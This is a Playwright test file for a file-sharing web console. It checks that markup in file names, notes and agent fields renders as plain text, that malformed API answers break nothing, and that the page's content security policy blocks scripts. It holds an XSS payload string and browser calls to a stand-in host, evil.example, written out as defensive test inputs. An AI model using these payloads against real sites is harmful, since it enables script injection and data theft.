"""Names, notes and agents that would be markup, an API that lies, and what the page is allowed at all."""

import time
from typing import Any

from playwright.sync_api import expect

from tests.console.pages import Console

MARKUP = (
    "\"'><x-hostile onclick=alert(1)></x-hostile><img src=x onerror=alert(1)>"
    "<script>alert(1)</script>${alert(1)}{{7*7}}"
)


def hostile(console: Console) -> None:
    """Everything that somebody else may have written is markup."""
    api, now = console.api, int(time.time())
    name = MARKUP.replace("/", "\u2215")
    api.objects |= {f"private/{name}": 5, f"{name}/x": 1}
    claims = [
        {"id": MARKUP, "when": now, "address": MARKUP, "agent": MARKUP, "edge": MARKUP, "outcome": MARKUP}
    ]
    api.link(f"private/{name}", "used", claims=claims)
    share = api.share(name, note=MARKUP, filename=name)
    api.histories[share["id"]] = [{"when": now, "address": MARKUP, "agent": MARKUP, "link": MARKUP}]


def test_markup_in_names_notes_and_agents_is_text(console: Console) -> None:
    hostile(console)
    page = console.open("#/files/private/")
    page.get_by_role("button", name="Hand out").click()
    page.get_by_role("radio", name="By a page").check()
    page.get_by_label("Note (optional)").fill(MARKUP)
    page.get_by_role("button", name="Make the page").click()
    expect(page.get_by_label("Address")).to_be_visible()
    page.get_by_role("button", name="Done").click()
    page.get_by_role("link", name="Handed out").click()
    expect(page.locator("li.handed-entry")).to_have_count(3)
    for button in page.get_by_role("button", name="Details").all():
        button.click()
    expect(page.get_by_text(MARKUP, exact=True).first).to_be_visible()
    page.get_by_role("button", name="Take back").first.click()
    expect(page.get_by_role("dialog")).to_contain_text("<x-hostile")
    assert page.locator("x-hostile, img, script:not([type=module])").count() == 0
    page.get_by_role("button", name="Cancel").click()
    page.get_by_role("link", name="All that was handed out of this file").first.click()
    expect(page.get_by_role("heading", name="Handed out")).to_be_visible()
    assert page.locator("x-hostile, img, script:not([type=module])").count() == 0


def lies() -> list[Any]:
    """What an API may answer with 200 that isn't what was asked for."""
    many = [
        {"id": f"{n}", "key": f"k{n}", "state": "ready", "issued_at": 9, "expires_at": 9}
        for n in range(20_000)
    ]
    return [
        "<!doctype html><title>Welcome</title>",
        "",
        "null",
        [],
        7,
        {},
        {"links": None, "shares": {}, "objects": "x", "folders": 3, "next": {}},
        {
            "links": [None, 1, "x", [], {}],
            "shares": [[]],
            "objects": [None, {"key": 1}],
            "folders": [1, None],
        },
        {"links": [{"id": {}, "key": [], "claims": 5}], "objects": [{"key": "a", "size": "big"}]},
        '{"links": [], "shares": [], "folders": ["\\ud800/"], "objects": [{"key": "\\udc00", "size": 1}]}',
        {"links": many, "objects": [], "folders": []},
        {"links": [], "shares": [], "objects": [], "folders": [], "next": "on and on"},
    ]


def test_an_api_that_lies_is_shown_as_empty_or_as_a_failure_and_breaks_nothing(console: Console) -> None:
    page = console.open("#/files/")
    for number, lie in enumerate(lies()):
        for route in ("objects", "links", "shares"):
            console.api.instead[f"GET /{route}"] = (200, lie)
        for address in (f"#/files/{number}/", f"#/handed-out?key={number}"):
            page.evaluate("address => { location.hash = address }", address)
            settled = page.locator("[role=alert], .empty, .files, li.handed-entry, button:text('Load more')")
            expect(settled.first).to_be_visible()
            assert page.locator("li.handed-entry").count() <= 100
    console.api.instead.clear()
    console.api.link("reports/q1.pdf")
    page.evaluate("location.hash = '#/handed-out'")
    expect(page.get_by_role("heading", name="q1.pdf")).to_be_visible()


def test_what_a_script_may_not_do_the_browser_refuses(console: Console) -> None:
    page = console.open()
    expect(page.get_by_role("heading", name="Files")).to_be_visible()
    refused = page.evaluate(
        """async () => {
            const broken = [];
            addEventListener('securitypolicyviolation', event => broken.push(event.effectiveDirective));
            const attempt = async what => { try { await what() } catch {} };
            await attempt(() => { document.body.innerHTML = '<p>' });
            await attempt(() => eval('1'));
            await attempt(() => fetch('https://evil.example/'));
            await attempt(() => {
                const script = document.createElement('script');
                script.textContent = 'window.ran = 1';
                document.body.append(script);
            });
            await attempt(() => document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x.png'})));
            await attempt(() => import('https://evil.example/x.js'));
            while (new Set(broken).size < 4) await new Promise(done => setTimeout(done, 5));
            return [[...new Set(broken)].sort(), window.ran === undefined];
        }"""
    )
    console.amiss.clear()
    assert refused == [
        ["connect-src", "img-src", "require-trusted-types-for", "script-src-elem"],
        True,
    ]
